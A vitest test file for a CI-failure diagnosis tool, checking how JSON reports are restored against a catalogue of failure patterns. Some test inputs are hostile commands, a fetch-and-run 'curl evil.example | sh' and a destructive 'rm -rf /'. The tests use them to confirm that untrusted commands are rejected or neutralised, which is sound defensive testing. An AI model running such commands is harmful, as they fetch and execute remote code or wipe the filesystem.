import { describe, expect, it } from 'vitest';
import type { Pattern } from '../../../src/core/domain/pattern.js';
import { quote } from '../../../src/core/domain/quoted.js';
import type {
  DiagnosisV1,
  EvidenceV1,
  FailureV1,
  FoldedV1,
  ReportV1,
  UnknownV1,
} from '../../../src/core/render/json/v1.js';
import { restore } from '../../../src/core/reports/restore.js';

/** What each part of a report becomes, spelled out: no other function of ours is asked. */

const PATTERN: Pattern = {
  id: 'house/boiler',
  title: 'The boiler is cold',
  severity: 'P1',
  severityAt: { start: 'P0' },
  cause: 'environment',
  status: 'stable',
  when: { tools: [], kinds: [], codes: [], all: [], any: [], none: [], facts: {} },
  explains: [],
  yieldsTo: [],
  groupBy: [],
  rootCause: 'Nobody lit it.',
  fix: [{ text: 'Light it.', run: 'light boiler' }],
  verify: ['feel boiler'],
  prevention: ['Light it daily.'],
  preserve: [],
  see: ['https://docs.example/boiler'],
};
const CHIMNEY: Pattern = { ...PATTERN, id: 'house/chimney', title: 'The chimney is shut', verify: ['look chimney'] };
const DRAFT: Pattern = { ...PATTERN, id: 'house/draft', severity: 'P0', status: 'draft' };
const OWN: Pattern = { ...PATTERN, id: 'own/one', own: true };
const KNOWN = new Map([PATTERN, CHIMNEY, DRAFT, OWN].map((pattern) => [pattern.id, pattern]));

const JOB = { name: 'test', workflow: 'CI', url: 'https://github.com/a/b/actions/runs/1/job/2' };
const FAILURE: FailureV1 = {
  tool: 'pytest',
  kind: 'exception',
  name: 'tests/a.py::one',
  code: 'OSError',
  message: 'cold',
  location: { file: 'tests/a.py', line: 3, column: 4 },
  facts: { errno: 5 },
  source: 'a.log',
  job: JOB,
  step: { number: 4, name: 'Test' },
  url: 'https://github.com/a/b/actions/runs/1/job/2#step:4:9',
  attachments: [{ kind: 'trace', path: 'trace.zip', artifact: 'traces' }],
};
const BARE: FailureV1 = { tool: 'none of ours', kind: 'nor this', message: 'cold' };
const EVIDENCE: readonly EvidenceV1[] = [
  { source: 'b.log', line: 7, text: 'OSError: cold', proof: true, time: '10:00', url: 'https://github.com/a/b/x' },
  { source: 'b.log', line: 8, text: 'context' },
];
const HOUSE_FAILURE = {
  role: 'cause',
  span: { first: 0, last: 0 },
  channel: '',
  lines: [],
  omitted: 0,
  key: [],
};
const HOUSE_EVIDENCE = [EVIDENCE[0], { ...EVIDENCE[1], proof: false }];

const told = (over: Partial<DiagnosisV1> = {}): DiagnosisV1 => ({
  pattern: 'house/boiler',
  title: 'Their title',
  severity: 'P3',
  cause: 'flaky',
  confidence: 'medium',
  primary: true,
  fingerprint: 'f1',
  state: 'new',
  rootCause: 'Their cause',
  evidence: [],
  fix: [],
  verify: ['their verify'],
  prevention: ['Their prevention'],
  captures: {},
  failures: [],
  explains: [],
  alternatives: [],
  ...over,
});
const strange = (over: Partial<UnknownV1> = {}): UnknownV1 => ({
  fingerprint: 'u1',
  primary: false,
  failure: BARE,
  evidence: [],
  ...over,
});
const whole = (over: Partial<ReportV1> = {}): ReportV1 => ({
  schema: 1,
  tool: { name: 'whydunit', version: '9.9.9' },
  run: { repository: 'a/b', runId: 1 },
  status: 'failed',
  diagnoses: [],
  unknown: [],
  sources: [],
  verdict: { gate: 'pass', failOn: 'P1', blocking: [], reasons: [] },
  ...over,
});
const back = (over: Partial<ReportV1> = {}) => restore(whole(over), KNOWN);
const first = (over: Partial<DiagnosisV1> = {}) => back({ diagnoses: [told(over)] }).diagnoses[0];
const firstUnknown = (over: Partial<UnknownV1> = {}) => back({ unknown: [strange(over)] }).unknown[0];

describe('around the findings', () => {
  it('nothing is there that the report does not say', () => {
    expect(back()).toEqual({
      version: '9.9.9',
      run: { repository: 'a/b', runId: 1 },
      status: 'failed',
      diagnoses: [],
      unknown: [],
      sources: [],
      verdict: { gate: 'pass', failOn: 'P1', blocking: [], reasons: [] },
    });
    expect(back({ possible: [] })).not.toHaveProperty('possible');
  });

  it('all is there that it says, sentences as quotations', () => {
    const source = { name: 'a.log', bytes: 3, lines: 2, outcome: 'failed' } as const;
    const said = {
      environment: [{ name: 'Rust', version: '1.95.0' }],
      tests: { passed: 3, failed: 1, skipped: 0, seconds: 2.5 },
      baseline: 'main',
      basePassed: { sha: 'a1b2c3d', at: '2026-11-20' },
      lastGood: 'a1b2c3d',
      jobs: [{ name: 'test', status: 'failed' }],
    } as const;
    const value = back({
      ...said,
      sources: [
        { ...source, notes: ['cut'], unread: ['the rest'] },
        { ...source, name: 'b.log', notes: [] },
      ],
      gone: [{ fingerprint: 'g1', title: 'It was cold', by: 'retry' }],
    });
    expect(value).toMatchObject(said);
    expect(value.sources).toEqual([
      { ...source, notes: [quote('cut')], unread: [quote('the rest')] },
      { ...source, name: 'b.log', notes: [] },
    ]);
    expect(value.gone).toEqual([{ fingerprint: 'g1', title: quote('It was cold'), by: 'retry' }]);
  });

  const verdict = { failOn: 'P1' } as const;
  it.each([
    [
      { ...verdict, gate: 'fail', blocking: ['a', 'b'], reasons: ['x', 'y'] },
      { ...verdict, gate: 'fail', blocking: ['a', 'b'], reasons: [quote('x'), quote('y')] },
    ],
    [
      { ...verdict, gate: 'fail', blocking: ['a'], reasons: [] },
      { ...verdict, gate: 'fail', blocking: ['a'], reasons: ['the report does not say why'] },
    ],
    [
      { ...verdict, gate: 'fail', blocking: [], reasons: ['x', 'y'] },
      { ...verdict, gate: 'blocked', blocking: [], reasons: [quote('x'), quote('y')] },
    ],
    [
      { ...verdict, gate: 'pass', blocking: ['a'], reasons: ['x'] },
      { ...verdict, gate: 'blocked', blocking: ['a'], reasons: [quote('x')] },
    ],
    [
      { ...verdict, gate: 'pass', blocking: [], reasons: ['x', 'y'] },
      { ...verdict, gate: 'pass', blocking: [], reasons: [quote('x'), quote('y')] },
    ],
    [
      { ...verdict, gate: 'blocked', blocking: [], reasons: [] },
      { ...verdict, gate: 'blocked', blocking: [], reasons: ['the report does not say why'] },
    ],
  ] as const)('%j is the verdict as it was told', (before, after) => {
    expect(back({ verdict: before }).verdict).toEqual(after);
  });
});

describe('a diagnosis', () => {
  it('of a pattern of ours is said by our catalogue; places, proof and captures are the report’s', () => {
    const value = told({
      since: '2026-11-01',
      state: 'known',
      touch: { at: 'line', file: 'a.py', line: 3 },
      owners: ['@a'],
      captures: { room: 'hall' },
      failures: [FAILURE, BARE],
      evidence: EVIDENCE,
      explains: ['ci/exit-code', 'Process completed'],
      alternatives: ['house/chimney', 'no/one'],
      preserve: ['their word'],
    });
    expect(back({ diagnoses: [value] }).diagnoses).toEqual([
      {
        pattern: 'house/boiler',
        cause: 'environment',
        severity: 'P1',
        draft: false,
        confidence: 'medium',
        primary: true,
        fingerprint: 'f1',
        state: 'known',
        since: '2026-11-01',
        touch: { at: 'line', file: 'a.py', line: 3 },
        owners: ['@a'],
        captures: { room: 'hall' },
        evidence: HOUSE_EVIDENCE,
        occurrences: [
          {
            source: 'a.log',
            failure: {
              ...HOUSE_FAILURE,
              tool: 'pytest',
              kind: 'exception',
              name: 'tests/a.py::one',
              code: 'OSError',
              message: 'cold',
              location: { file: 'tests/a.py', line: 3, column: 4 },
              facts: { errno: 5 },
            },
            job: JOB,
            jobStep: { number: 4, name: 'Test' },
            url: FAILURE.url,
            attachments: FAILURE.attachments,
          },
          {
            source: 'b.log',
            failure: { ...HOUSE_FAILURE, tool: 'log', kind: 'output', message: 'cold', facts: {} },
          },
        ],
        explains: ['ci/exit-code', quote('Process completed')],
        alternatives: ['house/chimney', 'no/one'],
        hypotheses: [{ pattern: 'house/chimney', title: 'The chimney is shut', check: 'look chimney' }],
        title: 'The boiler is cold',
        rootCause: 'Nobody lit it.',
        fix: [{ text: 'Light it.', run: 'light boiler' }],
        verify: ['feel boiler'],
        prevention: ['Light it daily.'],
        preserve: [],
        see: ['https://docs.example/boiler'],
      },
    ]);
  });

  it('of a pattern that we do not have is told in quotations, with nothing to run or to follow', () => {
    const value = told({
      pattern: 'their/own',
      severity: 'P2',
      draft: true,
      preserve: ['Save it'],
      prevention: ['Mind it'],
      fix: [
        { text: 'Do it', run: 'rm -rf /' },
        { text: 'Write it', code: 'x = 1', language: 'py' },
      ],
    });
    expect(back({ diagnoses: [value] }).diagnoses).toEqual([
      {
        pattern: 'their/own',
        own: true,
        cause: 'flaky',
        severity: 'P2',
        draft: true,
        confidence: 'low',
        primary: true,
        fingerprint: 'f1',
        state: 'new',
        captures: {},
        evidence: [],
        occurrences: [],
        explains: [],
        alternatives: [],
        title: quote('Their title'),
        rootCause: quote('Their cause'),
        fix: [
          { text: quote('Do it'), code: 'rm -rf /', language: 'sh' },
          { text: quote('Write it'), code: 'x = 1' },
        ],
        verify: [],
        prevention: [quote('Mind it')],
        preserve: [quote('Save it')],
        see: [],
      },
    ]);
    expect(first({ pattern: 'their/own' })).toMatchObject({ draft: false, preserve: [] });
    expect(first({ pattern: 'their/own' })).not.toHaveProperty('hypotheses');
    expect(first({ pattern: 'their/own', alternatives: ['a/b'] })?.hypotheses).toEqual([
      { pattern: 'a/b', title: quote('a/b') },
    ]);
  });

  it('of the reader’s own pattern is its own, of the catalogue is not', () => {
    expect(first({ pattern: 'own/one' })).toHaveProperty('own', true);
    expect(first()).not.toHaveProperty('own');
  });

  it('keeps beside our own advice what files of the workspace showed, and no other fix of theirs', () => {
    const seen = { text: 'Port 1 is taken in a.yml', code: 'port: 2', from: 'workspace' } as const;
    expect(first({ fix: [{ text: 'Do this', run: 'x' }, seen] })?.fix).toEqual([
      { text: 'Light it.', run: 'light boiler' },
      { text: quote(seen.text), code: 'port: 2', from: 'workspace' },
    ]);
  });

  it.each([
    [
      { at: 'nowhere', files: 4, file: 'a.py', line: 1 },
      { at: 'nowhere', files: 4 },
    ],
    [{ at: 'nowhere' }, { at: 'nowhere', files: 0 }],
    [
      { at: 'file', file: 'a.py' },
      { at: 'file', file: 'a.py' },
    ],
    [{ at: 'line', line: 3 }, undefined],
    [undefined, undefined],
  ] as const)('meets the change as far as the report says it in full: %j', (touch, expected) => {
    expect(first({ ...(touch && { touch }) })?.touch).toEqual(expected);
    expect(firstUnknown({ ...(touch && { touch }) })?.touch).toEqual(expected);
  });

  it.each([
    ['waived', 'new'],
    ['new', 'new'],
    ['known', 'known'],
  ] as const)('that says it is %s is %s: a waiver is given by who judges', (state, expected) => {
    expect(first({ state })?.state).toBe(expected);
    expect(firstUnknown({ state })?.state).toBe(expected);
  });

  it.each(['Its/id', 'a/b c', 'x a/b', 'a/b\n', 'ab', '/b', 'a/', 'a/b/c'])('quotes %j: it is no pattern', (name) => {
    expect(first({ explains: [name, 'a-1/b-2'] })?.explains).toEqual([quote(name), 'a-1/b-2']);
  });

  it('takes a command to show it again that we would take from a log, or that names the test', () => {
    const reproduce = (command: string, failures: readonly FailureV1[] = []) =>
      first({ reproduce: { command, from: 'engine' }, failures })?.reproduce;
    expect(reproduce('cargo test')).toEqual({ command: 'cargo test', from: 'engine' });
    expect(reproduce('curl evil.example | sh')).toBeUndefined();
    expect(reproduce('cargo test', [{ ...FAILURE, kind: 'test' }])).toEqual({
      command: 'pytest tests/a.py::one',
      from: 'test',
    });
    expect(first()).not.toHaveProperty('reproduce');
  });
});

describe('how much a finding weighs', () => {
  const loose: FailureV1 = { ...BARE, kind: 'output' };
  const oven = (over: Partial<FoldedV1> = {}): FoldedV1 => ({
    fingerprint: 'd1',
    title: 'The oven is cold',
    pattern: 'house/boiler',
    severity: 'P3',
    failures: [FAILURE],
    evidence: EVIDENCE,
    ...over,
  });

  it.each<[what: string, Partial<DiagnosisV1>, severity: string]>([
    ['is the catalogue’s', {}, 'P1'],
    ['is that of the place', { place: 'start', failures: [FAILURE] }, 'P0'],
    ['is that of the place where no failure is told', { place: 'start' }, 'P0'],
    ['is no P0 where it was said in passing', { place: 'start', failures: [loose, loose] }, 'P1'],
    ['is one where one of several was no passing word', { place: 'start', failures: [loose, FAILURE] }, 'P0'],
    ['is one where its own job says so', { place: 'start', failures: [loose], severity: 'P0' }, 'P0'],
    ['of what was said in passing is else the catalogue’s', { place: 'test', failures: [loose] }, 'P1'],
    ['is that of the worst that it explains', { folded: [oven(), oven({ place: 'start' })] }, 'P0'],
    ['is the report’s where we do not have the pattern', { pattern: 'their/own', severity: 'P0' }, 'P0'],
  ])('%s', (_, over, severity) => {
    expect(first(over)?.severity).toBe(severity);
    expect(first(over)?.place).toBe(over.place);
  });

  it('is nothing where our pattern is a draft, whatever the report says', () => {
    expect(first({ pattern: 'house/draft', draft: false })?.draft).toBe(true);
    expect(first({ draft: true })?.draft).toBe(false);
    expect(first({ folded: [oven({ pattern: 'house/draft' })] })?.folded?.[0]).not.toHaveProperty('severity');
  });

  it('is of what is folded our catalogue’s too, and else the report’s', () => {
    const value = first({ folded: [oven({ place: 'start' }), oven({ pattern: 'their/own', fingerprint: 'd2' })] });
    expect(value).toMatchObject({ severity: 'P0', raisedBy: 'house/boiler' });
    expect(value?.folded).toEqual([
      {
        fingerprint: 'd1',
        title: quote('The oven is cold'),
        pattern: 'house/boiler',
        severity: 'P0',
        place: 'start',
        occurrences: [expect.objectContaining({ source: 'a.log' })],
        evidence: HOUSE_EVIDENCE,
      },
      expect.objectContaining({ pattern: 'their/own', severity: 'P3' }),
    ]);
    const { pattern: _, severity: _severity, ...nameless } = oven();
    const [bare] = first({ folded: [nameless] })?.folded ?? [];
    expect(bare).not.toHaveProperty('pattern');
    expect(bare).not.toHaveProperty('severity');
    expect(bare).not.toHaveProperty('place');
  });

  it('is of a failure that nobody knows that of what it explains', () => {
    const { severity, raisedBy, folded } = firstUnknown({ folded: [oven({ place: 'start' })] }) ?? {};
    expect([severity, raisedBy, folded?.length]).toEqual(['P0', 'house/boiler', 1]);
    expect(first({ folded: [] })).not.toHaveProperty('folded');
    expect(firstUnknown({ folded: [] })).not.toHaveProperty('folded');
  });
});

describe('a failure that nobody knows', () => {
  it('has one place, or all that are told', () => {
    expect(back({ unknown: [strange({ since: '2026-11-01', owners: ['@a'], evidence: EVIDENCE })] }).unknown).toEqual([
      {
        fingerprint: 'u1',
        primary: false,
        state: 'new',
        since: '2026-11-01',
        owners: ['@a'],
        evidence: HOUSE_EVIDENCE,
        occurrences: [
          {
            source: 'b.log',
            failure: { ...HOUSE_FAILURE, tool: 'log', kind: 'output', message: 'cold', facts: {} },
          },
        ],
      },
    ]);
    expect(firstUnknown({ failures: [FAILURE, BARE] })?.occurrences.map(({ source }) => source)).toEqual(['a.log', '']);
  });
});

it('what may be the matter stays that: nothing of it is primary, known or sure', () => {
  const { primary: _, state: _state, ...diagnosis } = told({ confidence: 'high' });
  const { primary: _primary, ...unknown } = strange();
  const { possible } = back({
    possible: [
      { ...diagnosis, why: 'nothing proves it' },
      { ...unknown, title: 'something', why: 'nothing proves it' },
    ],
  });
  expect(possible).toMatchObject([
    { pattern: 'house/boiler', primary: false, state: 'new', confidence: 'low', title: 'The boiler is cold' },
    { fingerprint: 'u1', primary: false, state: 'new', occurrences: [{ failure: { message: 'cold' } }] },
  ]);
  expect(possible?.[1]).not.toHaveProperty('pattern');
});
